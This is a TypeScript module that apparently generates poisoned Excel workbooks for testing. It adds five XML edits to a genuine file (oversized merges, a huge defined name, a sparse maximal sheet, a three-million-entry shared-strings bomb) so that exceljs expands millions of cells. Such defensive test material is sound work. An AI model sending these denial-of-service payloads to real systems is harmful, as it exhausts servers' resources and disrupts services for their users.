// Hostile workbooks built from a genuine one (so a questionnaire keeps its valid signature): each edits the
// package's XML the way an attacker would, staying a few kilobytes, and makes exceljs 4.4 expand millions of cells.
import JSZip from 'jszip';

export type Poison = 'merge-to-xfd' | 'huge-defined-name' | 'wide-sparse-sheet' | 'two-million-merged-cells' | 'shared-strings-bomb';

export const POISONS: Poison[] = ['merge-to-xfd', 'huge-defined-name', 'wide-sparse-sheet', 'two-million-merged-cells', 'shared-strings-bomb'];

const SHEET = 'xl/worksheets/sheet1.xml';

function addMerges(xml: string, merges: string): string {
  if (xml.includes('</mergeCells>')) return xml.replace('</mergeCells>', `${merges}</mergeCells>`);
  return xml.replace('</sheetData>', `</sheetData><mergeCells>${merges}</mergeCells>`);
}

/** The genuine workbook with one attack added; the result is still a well-formed .xlsx. */
export async function poisoned(genuine: Buffer, poison: Poison): Promise<Buffer> {
  const zip = await JSZip.loadAsync(genuine);
  const sheet = await zip.file(SHEET)!.async('string');
  switch (poison) {
    case 'merge-to-xfd':
      zip.file(SHEET, addMerges(sheet, '<mergeCell ref="E200:XFD1048576"/>'));
      break;
    case 'huge-defined-name': {
      let wb = await zip.file('xl/workbook.xml')!.async('string');
      const sheetName = /<sheet [^>]*name="([^"]+)"/.exec(wb)![1];
      const name = `<definedName name="poison">'${sheetName}'!$A$1:$XFD$1048576</definedName>`;
      wb = wb.includes('</definedNames>') ? wb.replace('</definedNames>', `${name}</definedNames>`) : wb.replace('</sheets>', `</sheets><definedNames>${name}</definedNames>`);
      zip.file('xl/workbook.xml', wb);
      break;
    }
    case 'wide-sparse-sheet':
      zip.file(SHEET, sheet.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>').replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'));
      break;
    case 'two-million-merged-cells': {
      // 20,000 merges of 100 cells each, below the sheet's own rows
      const merges: string[] = [];
      for (let r = 1000; r < 21000; r++) merges.push(`<mergeCell ref="A${r}:CV${r}"/>`);
      zip.file(SHEET, addMerges(sheet, merges.join('')));
      break;
    }
    case 'shared-strings-bomb': {
      const existing = (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"></sst>';
      zip.file('xl/sharedStrings.xml', existing.replace('</sst>', `${'<si><t/></si>'.repeat(3_000_000)}</sst>`));
      break;
    }
  }
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}
